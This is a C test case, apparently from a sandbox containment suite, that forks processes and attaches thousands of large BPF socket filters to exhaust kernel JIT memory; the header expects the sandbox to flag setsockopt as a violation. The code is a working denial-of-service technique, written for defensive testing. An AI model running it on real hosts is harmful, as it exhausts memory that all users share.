/* Attaches packet filters to thousands of unix sockets: the kernel compiles each to machine code, in memory that no group
 * is charged for and of which all users together have a fixed amount.
 *
 * id: R61
 * contained: a filter on a socket is nothing that a program which computes would want: the call is forbidden
 * expect: VIOLATION syscall=setsockopt
 */
#include "attack.h"

#include <linux/filter.h>

int main(void)
{
	static struct sock_filter code[2048];
	struct sock_fprog program = {.len = 2048, .filter = code};
	int pair[2], attached = 0;

	for (int i = 0; i < 2047; i++)
		code[i] = (struct sock_filter){BPF_LD | BPF_IMM, 0, 0, 0x12345678u + i};
	code[2047] = (struct sock_filter){BPF_RET | BPF_K, 0, 0, 0xffff};
	for (int child = 0; child < 20; child++) {
		if (child && fork() == 0)
			child = 20;
		while (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0)
			for (int i = 0; i < 2; i++)
				attached += setsockopt(pair[i], SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) == 0;
		if (attached)
			canary();
	}
	return 0;
}
